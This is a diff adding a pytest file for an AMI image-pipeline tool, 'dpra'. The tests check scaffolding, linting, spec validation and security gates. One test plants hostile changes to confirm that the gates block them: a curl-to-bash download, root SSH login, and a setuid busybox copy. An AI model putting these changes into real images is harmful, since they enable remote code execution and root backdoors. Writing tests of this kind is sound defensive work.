@@ -1,0 +1,124 @@
+"""Kind machine of the type compute-image: what `dpra new` makes, what stops it, what is promised."""
+
+import json
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import pytest
+from dpra import catalogue, problems
+from dpra.rehearsal import scenarios
+from dpra.spec import reader
+
+SPEC = (Path(__file__).parent / "specs/machine.yml").read_text("utf-8")
+# DPRA.md's list of the type: docs/compute-image-pipeline/index.md of AWS's repository, which gives no marks.
+DPRA = {
+    "local": {"pre-commit-hooks", "ide-plugins"},
+    "source": {"test-source", "infrastructure-source", "configuration"},
+    "build": {"policy-as-code", "secrets-detection", "vulnerability-assessment", "iac-unit-tests"},
+    "test": {"build-environment", "integration-tests", "approval"},
+    "prod": {"service-catalog-product", "package-and-store"},
+}
+ROWS = [row for row in scenarios.table("compute-image") if row.get("needs", {}).get("kind", "machine") == "machine"]
+
+
+@pytest.fixture
+def base(dpra: Any, tmp_path: Path) -> Path:
+    values = ("name=base", "pipeline=compute-image", "kind=machine")
+    done = dpra("new", "--no-input", "-o", tmp_path, *values, cwd=tmp_path)
+    assert done.returncode == 0, done.stderr
+    return tmp_path / "base"
+
+
+def test_what_is_new_is_checked_linted_and_planned_with_every_action_of_dpra(dpra: Any, base: Path) -> None:
+    assert dpra("check", cwd=base).returncode == 0
+    for words in (
+        ["actionlint"],
+        ["zizmor", "--persona", "auditor", "--offline", "--quiet", "."],
+        ["cfn-lint", *sorted(base.glob("infrastructure/**/*.yml"))],
+        ["check-jsonschema", "--schemafile", ".github/dpra.schema.json", "dpra.yml"],
+    ):
+        done = subprocess.run(words, cwd=base, capture_output=True, text=True, check=False)
+        assert done.returncode == 0, done.stdout + done.stderr
+    found: dict[str, set[str]] = {}
+    for one in json.loads(dpra("plan", "--format", "json", cwd=base).stdout)["actions"]:
+        found.setdefault(one["stage"], set()).add(one["action"])
+        assert one["status"] != "left-out" or one["reason"].startswith("on demand"), one
+    for stage, names in DPRA.items():
+        assert names <= found[stage], stage
+
+
+@pytest.mark.parametrize(
+    ("image", "told"),
+    [
+        ("{kind: machine}", "image.parent: a machine's image is made from an AMI"),
+        ("{kind: machine, parent: debian}", "image.parent: must be the name of a parameter"),
+        ("{kind: machine, parent: /debian, file: Other}", "image.file: goes together with kind: container"),
+        ("{kind: machine, parent: /debian, vpc: vpc-0a1b2c3d}", "image.vpc: vpc and subnet go together"),
+        ("{kind: machine, parent: /debian, with: packer}", "image.with: 'packer' is not supported yet"),
+        ("{kind: machine, parent: /debian, organization: o-a1b2c3d4e5}", "image.organization: AMIs are shared"),
+    ],
+)
+def test_what_a_machine_cannot_be_made_of_is_told(dpra: Any, tmp_path: Path, image: str, told: str) -> None:
+    text = SPEC[: SPEC.index("image:")] + f"image: {image}\n"
+    (tmp_path / "dpra.yml").write_text(text)
+    done = dpra("plan", cwd=tmp_path)
+    assert done.returncode == 2
+    assert told in done.stderr
+
+
+def test_only_the_jobs_that_need_it_have_a_role_and_a_pull_request_has_none() -> None:
+    plan = problems.planned(reader.read(SPEC.encode(), catalogue.words()))
+    assert not [job.id for job in plan.workflows["pull-request"].jobs.values() if job.role]
+    own = {job.id for one in plan.workflows.values() for job in one.jobs.values() if job.role and not job.trusted}
+    assert own == {"image-tests"}
+
+
+def test_the_promises_are_those_of_machines() -> None:
+    assert len(ROWS) >= 12
+
+
+def stopped(dpra: Any, folder: Path, only: str) -> str:
+    """What a rehearsal of the working tree says, which does not pass."""
+    done = dpra("rehearse", "--offline", "--only", only, cwd=folder)
+    assert done.returncode == 1, done.stdout
+    return str(done.stdout + done.stderr)
+
+
+@pytest.mark.slow
+def test_each_gate_of_a_machine_blocks_by_itself(dpra: Any, needs: Any, base: Path) -> None:
+    """A component that trusts a download, one that breaks its promise, a file that makes root, a failing test."""
+    needs("busybox")
+    path = base / "components/20-hardening.yml"
+    text = path.read_text()
+    path.write_text(text.replace("mkdir -p", "curl -f https://example.com/i.sh | bash && mkdir -p"))
+    assert "stopped at: security / policy-as-code\n" in stopped(dpra, base, "security")
+    path.write_text(text.replace("PermitRootLogin no\\n", "PermitRootLogin yes\\n"))
+    told = stopped(dpra, base, "build")
+    assert "stopped at: build / build-environment\n" in told
+    assert "20-hardening" in told
+    assert "validate.no-login-by-password: exit code 1" in told  # of its log
+    path.write_text(text.replace("chmod a-s {} +", "chmod a-s {} + && cp /bin/busybox /opt/x && chmod 4755 /opt/x"))
+    (base / "tests/integration/no-file-makes-root").unlink()
+    assert "stopped at: scan / hardening-check\n" in stopped(dpra, base, "scan")
+    path.write_text(text)
+    (base / "tests/integration/fails").write_text("#!/bin/sh\nexit 1\n")
+    (base / "tests/integration/fails").chmod(0o755)
+    assert "stopped at: image-tests / integration-tests\n" in stopped(dpra, base, "image-tests")
+
+
+@pytest.mark.slow
+def test_the_promises_are_kept_in_every_region_of_every_wave(dpra: Any, needs: Any, tmp_path: Path) -> None:
+    """Those of machines alone, and of the others what a copy of an AMI could break; `--scenario all` plays all."""
+    needs("busybox")
+    values = ("name=base", "pipeline=compute-image", "kind=machine", "waves=3")
+    regions = "regions=eu-west-1,us-east-1,us-west-2"
+    assert dpra("new", "--no-input", "-o", tmp_path, *values, regions, cwd=tmp_path).returncode == 0
+    wanted = [row["id"] for row in ROWS if row.get("needs", {}).get("kind")]
+    wanted += ["a-vulnerable-package", "a-region-that-refuses", "a-retirement"]
+    out, words = tmp_path / "scenarios.json", [word for one in wanted for word in ("--scenario", one)]
+    done = dpra("rehearse", "--offline", *words, "--json", out, cwd=tmp_path / "base")
+    assert done.returncode == 0, done.stdout + done.stderr
+    proofs = json.loads(out.read_text())["scenarios"]
+    assert {one["id"] for one in proofs} == set(wanted)
+    assert all(one["kept"] and one["applicable"] and not one["problems"] for one in proofs)
